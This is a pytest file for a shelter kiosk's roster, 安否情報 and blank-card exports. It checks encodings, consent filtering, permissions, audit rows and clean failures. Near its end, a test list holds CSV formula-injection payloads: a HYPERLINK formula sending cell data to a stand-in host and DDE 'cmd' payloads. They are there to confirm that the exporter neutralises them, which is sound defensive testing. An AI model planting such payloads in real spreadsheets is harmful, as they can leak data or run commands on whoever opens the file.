"""Exports on real stores: the roster as CSV (BOM, Shift_JIS) and PDF (read back with
pdftotext), the 安否情報 list holding only consenting people, blank cards whose QRs decode to
recorded slips, the manager-only rule, the audit row, and failures that leave nothing behind."""

from __future__ import annotations

import argparse
import csv
import io
import os
import re
import subprocess
from datetime import date
from pathlib import Path

import cv2
import pytest
import zxingcpp

from kiosk import cli
from kiosk.access import audit
from kiosk.access.staff import PermissionDenied
from kiosk.basics.output_files import OutputNotAFile
from kiosk.cli import export_commands
from kiosk.core import Kiosk
from kiosk.demos import residents
from kiosk.exports import (
    ExportFailed,
    UnencodableRow,
    export_anpi,
    export_blank_cards,
    export_roster,
)
from kiosk.exports.roster import CSV_HEADINGS, encode_csv
from kiosk.reception import checkin
from kiosk.reception.arrival import identify
from kiosk.registry import people
from kiosk.registry.paper_cards import find_blank_card, printed_cards
from kiosk.registry.records import HouseholdDraft, Needs, PersonDraft
from kiosk.registry.vocab import ANPI_SCOPE
from tests.conftest import PASSPHRASE, FakeClock, run_cli

BOM = b"\xef\xbb\xbf"


def pdf_text(path: Path) -> str:
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    ).stdout


def pdf_pages(path: Path) -> int:
    info = subprocess.run(
        ["pdfinfo", str(path)], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    return int(re.search(r"^Pages:\s+(\d+)$", info, re.M).group(1))  # type: ignore[union-attr]


def squeeze(text: str) -> str:
    """pdftotext spreads a full-width space into several: compare without whitespace."""
    return re.sub(r"\s+", "", text)


def export_audits(kiosk: Kiosk) -> list[tuple[str, str, str]]:
    return [
        (e.actor, e.action, e.record_type)
        for e in reversed(audit.recent(kiosk.store, 500))
        if e.action.startswith("export.")
    ]


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """Where exports go: apart from the kiosk home, so a listing shows only what they wrote."""
    (tmp_path / "out").mkdir()
    return tmp_path / "out"


@pytest.fixture
def small_shelter(kiosk: Kiosk, clock: FakeClock) -> dict[str, str]:
    """Two households in (one in a car with a wheelchair user), one registered only, one left."""
    ctx = kiosk.ctx
    _, (rep, child) = people.add_household(
        ctx,
        [
            PersonDraft(
                name="髙橋 一郎",
                kana="タカハシ イチロウ",
                sex="M",
                birth=date(1950, 4, 1),
                stay="vehicle",
                stay_detail="白の軽",
                needs=Needs(flags=frozenset({"wheelchair", "medication"}), medication="秘密の薬"),
                consent=frozenset({ANPI_SCOPE}),
            ),
            PersonDraft(
                name="髙橋 花",
                kana="タカハシ ハナ",
                sex="F",
                birth=date(2025, 1, 10),
                relationship="child",
                stay="vehicle",
            ),
        ],
        HouseholdDraft(vehicle_plate="会津 500 あ 12-34"),
    )
    alone = people.add_person(
        ctx, PersonDraft(name="山﨑 和子", kana="ヤマサキ カズコ", sex="F", birth=date(1980, 12, 1))
    )
    never = people.add_person(ctx, PersonDraft(name="未来 来ない", kana="ミライ コナイ"))
    left = people.add_person(
        ctx,
        PersonDraft(
            name="退所 太郎",
            kana="タイショ タロウ",
            sex="M",
            birth=date(1955, 6, 1),
            consent=frozenset({ANPI_SCOPE}),
        ),
    )
    checkin.check_in(ctx, [rep.id, child.id])
    clock.advance(minutes=30)
    checkin.check_in(ctx, [alone.id, left.id])
    clock.advance(minutes=10)
    checkin.check_out(ctx, [left.id], "親戚宅")
    return {"rep": rep.id, "child": child.id, "alone": alone.id, "never": never.id, "left": left.id}


def test_roster_csv_is_utf8_with_bom_and_lists_who_is_here_by_household(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    target = out / "roster.csv"
    result = export_roster(kiosk.ctx, target, "csv")
    raw = target.read_bytes()
    rows = list(csv.reader(io.StringIO(raw[len(BOM) :].decode("utf-8"), newline="")))
    household = people.get_person(kiosk.store, small_shelter["rep"]).household_id
    alone_household = people.get_person(kiosk.store, small_shelter["alone"]).household_id
    assert raw[:3] == BOM
    assert b"\r\n" in raw
    assert rows == [
        list(CSV_HEADINGS),
        # fmt: off
        [
            "1",
            "髙橋 一郎",
            "タカハシ イチロウ",
            "男",
            "76",
            "車中泊",
            "白の軽",
            "在所",
            "車いす・服薬",
            "2026-11-25 18:00",
            household,
            small_shelter["rep"],
        ],
        [
            "1",
            "髙橋 花",
            "タカハシ ハナ",
            "女",
            "1",
            "車中泊",
            "",
            "在所",
            "",
            "2026-11-25 18:00",
            household,
            small_shelter["child"],
        ],
        [
            "2",
            "山﨑 和子",
            "ヤマサキ カズコ",
            "女",
            "45",
            "避難所内",
            "",
            "在所",
            "",
            "2026-11-25 18:30",
            alone_household,
            small_shelter["alone"],
        ],
        # fmt: on
    ]
    assert (result.kind, result.rows, result.pages, result.size) == ("roster", 3, None, len(raw))
    assert "秘密の薬" not in raw.decode("utf-8-sig")  # needs as flags, details stay on the card
    assert os.stat(target).st_mode & 0o777 == 0o600


def test_roster_with_all_adds_the_registered_and_those_who_left(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    export_roster(kiosk.ctx, out / "all.csv", "csv", include_all=True)
    rows = list(csv.reader(io.StringIO((out / "all.csv").read_text("utf-8-sig"))))
    assert [(r[0], r[1], r[7]) for r in rows[1:]] == [
        ("1", "髙橋 一郎", "在所"),
        ("1", "髙橋 花", "在所"),
        ("2", "山﨑 和子", "在所"),
        ("3", "退所 太郎", "退所"),
        ("4", "未来 来ない", "未入所"),
    ]


def test_roster_in_shift_jis_holds_variant_kanji_and_names_the_row_it_cannot_write(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    sjis = out / "sjis.csv"
    export_roster(kiosk.ctx, sjis, "csv", encoding="shift_jis")
    assert [r[1] for r in csv.reader(io.StringIO(sjis.read_bytes().decode("cp932")))] == [
        "氏名",
        "髙橋 一郎",
        "髙橋 花",
        "山﨑 和子",
    ]

    yoshi = people.add_person(
        kiosk.ctx, PersonDraft(name="\U00020bb7野 太郎", kana="ヨシノ タロウ")
    )
    checkin.check_in(kiosk.ctx, [yoshi.id])
    refused = out / "refused.csv"
    with pytest.raises(UnencodableRow) as caught:
        export_roster(kiosk.ctx, refused, "csv", encoding="shift_jis")
    assert (caught.value.code, caught.value.params) == ("unencodable", {"row": 4, "column": "氏名"})
    assert "野" not in str(caught.value)
    assert sorted(p.name for p in out.iterdir()) == ["sjis.csv"]

    replaced = out / "replaced.csv"
    export_roster(kiosk.ctx, replaced, "csv", encoding="shift_jis", unencodable="replace")
    names = [r[1] for r in csv.reader(io.StringIO(replaced.read_bytes().decode("cp932")))]
    assert names[-1] == "〓野 太郎"


def test_roster_pdf_shows_shelter_headings_every_present_person_and_page_numbers(
    kiosk: Kiosk, out: Path
) -> None:
    residents.seed(kiosk.ctx, 60)
    present = people.rows_to_people(kiosk.store.query("SELECT * FROM person"))
    checkin.check_in(kiosk.ctx, [p.id for p in present])
    target = out / "roster.pdf"
    result = export_roster(kiosk.ctx, target, "pdf")
    text = pdf_text(target)
    flat = squeeze(text)
    pages = pdf_pages(target)
    assert result.pages == pages and pages >= 2
    assert "テスト避難所" in text and "受付名簿" in text
    assert "出力 Exported 2026-11-25 18:00 JST" in text
    assert "個人情報を含みます" in text
    for heading in ("氏名", "ふりがな", "性別", "年齢", "滞在場所", "状態", "要配慮", "入所日時"):
        assert heading in text
    assert [p.name for p in present if squeeze(p.name) not in flat] == []
    assert re.findall(r"page \d+ / \d+", text) == [
        f"page {n} / {pages}" for n in range(1, 1 + pages)
    ]


def test_anpi_list_holds_only_people_who_consented_and_came(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    residents.seed(kiosk.ctx, 40)
    arriving = kiosk.store.query(
        "SELECT id FROM person WHERE state = 'registered' AND id != ?", (small_shelter["never"],)
    )
    checkin.check_in(kiosk.ctx, [r["id"] for r in arriving])
    refusing = people.add_person(
        kiosk.ctx,
        PersonDraft(name="秘匿 希望", kana="ヒトク キボウ", consent=frozenset({"city.emergency"})),
    )
    checkin.check_in(kiosk.ctx, [refusing.id])
    target = out / "anpi.csv"
    result = export_anpi(kiosk.ctx, target, "csv")
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    everyone = people.rows_to_people(kiosk.store.query("SELECT * FROM person"))
    consenting = [p.name for p in everyone if ANPI_SCOPE in p.consent and p.state != "registered"]
    assert rows[0] == ["氏名", "ふりがな", "性別", "年代", "状況", "行き先", "日時"]
    assert sorted(r[0] for r in rows[1:]) == sorted(consenting)
    assert result.rows == len(consenting)
    assert {"秘匿 希望", "髙橋 花", "山﨑 和子"} & {r[0] for r in rows} == set()
    assert next(r for r in rows if r[0] == "退所 太郎") == [
        "退所 太郎", "タイショ タロウ", "男", "70代", "退所", "親戚宅", "2026-11-25 18:40",
    ]  # fmt: skip
    assert next(r for r in rows if r[0] == "髙橋 一郎")[3:6] == ["70代", "在所（車中泊）", ""]

    pdf = out / "anpi.pdf"
    export_anpi(kiosk.ctx, pdf, "pdf")
    flat = squeeze(pdf_text(pdf))
    assert "安否情報" in flat and "テスト避難所" in flat
    assert sorted(n for n in consenting if squeeze(n) in flat) == sorted(consenting)
    refused_names = {p.name for p in everyone if ANPI_SCOPE not in p.consent} - set(consenting)
    assert [n for n in refused_names if squeeze(n) in flat] == []


def decode_pages(pdf: Path, out: Path) -> list[tuple[str, ...]]:
    """The QR texts zxing-cpp finds on each page, rendered at 150 dpi."""
    subprocess.run(
        ["pdftoppm", "-png", "-r", "150", str(pdf), str(out / "page")], check=True, timeout=60
    )
    return [
        tuple(r.text for r in zxingcpp.read_barcodes(cv2.imread(str(png), cv2.IMREAD_GRAYSCALE)))
        for png in sorted(out.glob("page-*.png"))
    ]


def test_blank_cards_have_one_page_each_and_a_qr_of_a_recorded_slip(
    kiosk: Kiosk, out: Path
) -> None:
    target = out / "cards.pdf"
    result = export_blank_cards(kiosk.ctx, target, 3)
    found = decode_pages(target, out)
    codes = [page[0] for page in found]
    arrivals = [identify(kiosk.store, code, kiosk.ctx.now()) for code in codes]
    slip_ids = [a.slip.slip_id for a in arrivals if a.slip is not None]
    cards = printed_cards(kiosk.store)
    text = pdf_text(target)
    assert (pdf_pages(target), result.pages, result.rows) == (3, 3, 3)
    assert [len(page) for page in found] == [1, 1, 1]
    assert all(code.startswith("KSS1:") for code in codes)
    assert [(a.kind, a.needs_registration) for a in arrivals] == [("slip", True)] * 3
    assert slip_ids == [c.slip_id for c in cards] and len(set(slip_ids)) == 3
    assert [(c.number, c.count, c.export_id) for c in cards] == [
        (n, 3, result.export_id) for n in (1, 2, 3)
    ]
    assert find_blank_card(kiosk.store, slip_ids[1]) == cards[1]
    assert find_blank_card(kiosk.store, "AAAAAAAA") is None
    for slip_id in slip_ids:
        assert f"No. {slip_id}" in text
    for label in ("避難者カード", "氏名", "生年月日", "車中泊", "車いす", "アレルギー", "ペット"):
        assert text.count(label) >= 3
    assert "安否の問い合わせ" in text and "テスト避難所" in text


def test_exports_need_the_manager_role_and_are_audited(kiosk: Kiosk, out: Path) -> None:
    staff = kiosk.ctx.acting_as("受付1", "staff")
    operator = kiosk.ctx.acting_as("同期1", "operator")
    for ctx in (staff, operator):
        with pytest.raises(PermissionDenied):
            export_roster(ctx, out / "r.csv", "csv")
        with pytest.raises(PermissionDenied):
            export_anpi(ctx, out / "a.csv")
        with pytest.raises(PermissionDenied):
            export_blank_cards(ctx, out / "b.pdf", 1)
    assert (list(out.iterdir()), export_audits(kiosk), printed_cards(kiosk.store)) == (
        [],
        [],
        (),
    )
    manager = kiosk.ctx.acting_as("所長", "manager")
    export_roster(manager, out / "r.pdf", "pdf")
    export_anpi(manager, out / "a.csv")
    export_blank_cards(manager, out / "b.pdf", 1)
    assert export_audits(kiosk) == [
        ("所長", "export.roster", "export"),
        ("所長", "export.anpi", "export"),
        ("所長", "export.blank_cards", "export"),
    ]
    assert audit.verify_chain(kiosk.store) == []


def test_a_missing_directory_leaves_no_file_no_card_and_no_audit(kiosk: Kiosk, out: Path) -> None:
    missing = out / "no-such-dir" / "cards.pdf"
    with pytest.raises(ExportFailed) as caught:
        export_blank_cards(kiosk.ctx, missing, 2)
    assert caught.value.params == {"path": str(missing), "reason": "No such file or directory"}
    assert (list(out.iterdir()), printed_cards(kiosk.store), export_audits(kiosk)) == (
        [],
        (),
        [],
    )


def test_a_directory_in_the_way_leaves_no_temp_file_and_the_directory_as_it_was(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    in_the_way = out / "roster.pdf"
    in_the_way.mkdir()
    with pytest.raises(OutputNotAFile) as caught:
        export_roster(kiosk.ctx, in_the_way, "pdf", replace=True)
    assert caught.value.code == "output_not_a_file"
    assert (sorted(p.name for p in out.iterdir()), list(in_the_way.iterdir())) == (
        ["roster.pdf"],
        [],
    )
    assert export_audits(kiosk) == []


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="needs file permissions")
def test_a_read_only_directory_leaves_no_temp_and_no_partial_file(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    locked = out / "locked"
    locked.mkdir()
    (locked / "roster.pdf").write_bytes(b"old")
    locked.chmod(0o500)
    try:
        with pytest.raises(ExportFailed):
            export_roster(kiosk.ctx, locked / "roster.pdf", "pdf", replace=True)
        with pytest.raises(ExportFailed):
            export_anpi(kiosk.ctx, locked / "anpi.csv", "csv")
        leftovers = sorted(p.name for p in locked.iterdir())
    finally:
        locked.chmod(0o700)
    assert (leftovers, (locked / "roster.pdf").read_bytes(), export_audits(kiosk)) == (
        ["roster.pdf"],
        b"old",
        [],
    )


def export_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="kiosk")
    parser.add_argument("--home")
    export_commands.register(parser.add_subparsers(dest="command", required=True))
    return parser


def test_export_commands_write_the_file_and_warn_on_stderr(
    kiosk: Kiosk,
    small_shelter: dict[str, str],
    out: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("KIOSK_PASSPHRASE", PASSPHRASE)
    home = str(kiosk.home)
    kiosk.close()
    parser = export_parser()
    target = out / "roster.csv"
    codes = []
    for argv in (
        ["export", "roster", "--format", "csv", "--to", str(target)],
        ["export", "anpi", "--to", str(out / "anpi.pdf")],
        ["export", "blank-cards", "--count", "2", "--to", str(out / "cards.pdf")],
    ):
        args = parser.parse_args(["--home", home, *argv])
        codes.append(args.handler(args))
    stdout, err = capsys.readouterr()
    assert codes == [0, 0, 0]
    assert stdout.splitlines()[0] == f"Wrote {target}: 3 rows, {target.stat().st_size} bytes."
    assert [line.split(":")[0] for line in err.splitlines()] == ["warning"] * 3
    assert err.splitlines()[0].startswith("warning: This file holds personal data")
    assert pdf_pages(out / "cards.pdf") == 2


def test_export_help_ends_with_an_example(capsys: pytest.CaptureFixture[str]) -> None:
    examples = []
    for name in ("roster", "anpi", "blank-cards"):
        with pytest.raises(SystemExit):
            export_parser().parse_args(["export", name, "--help"])
        examples.append(capsys.readouterr().out.split("example:\n")[1].split()[:3])
    assert examples == [
        ["kiosk", "export", "roster"],
        ["kiosk", "export", "anpi"],
        ["kiosk", "export", "blank-cards"],
    ]


@pytest.mark.skipif(
    export_commands not in cli.MODULES, reason="kiosk.cli.export_commands is not wired yet"
)
def test_kiosk_export_through_the_real_command_line(
    kiosk: Kiosk, small_shelter: dict[str, str], out: Path
) -> None:
    home = kiosk.home
    kiosk.close()
    target = out / "roster.pdf"
    result = run_cli("export", "roster", "--format", "pdf", "--to", str(target), home=home)
    missing = run_cli("export", "anpi", "--to", str(out / "nope" / "a.csv"), home=home)
    assert (result.returncode, result.stderr.startswith("warning: This file holds")) == (0, True)
    assert "髙橋" in pdf_text(target)
    assert (missing.returncode, missing.stdout, missing.stderr.count("\n")) == (1, "", 1)


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr"])
def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(formula: str) -> None:
    body = encode_csv(("氏名", "電話"), [(formula, "000-1111-2222")], "utf-8")
    rows = list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8"), newline="")))
    assert rows == [["氏名", "電話"], ["'" + formula, "000-1111-2222"]]


def test_names_typed_as_formulas_reach_the_roster_and_anpi_csv_as_text(
    kiosk: Kiosk, out: Path
) -> None:
    names = [FORMULAS[0], FORMULAS[1], FORMULAS[3]]
    ids = [
        people.add_person(
            kiosk.ctx, PersonDraft(name=name, kana="ミホン", consent=frozenset({ANPI_SCOPE}))
        ).id
        for name in names
    ]
    checkin.check_in(kiosk.ctx, ids)
    for export, target in ((export_roster, out / "roster.csv"), (export_anpi, out / "anpi.csv")):
        export(kiosk.ctx, target, "csv")
        text = target.read_bytes()[len(BOM) :].decode("utf-8")
        cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
        assert {"'" + name for name in names} <= cells and not set(names) & cells, export
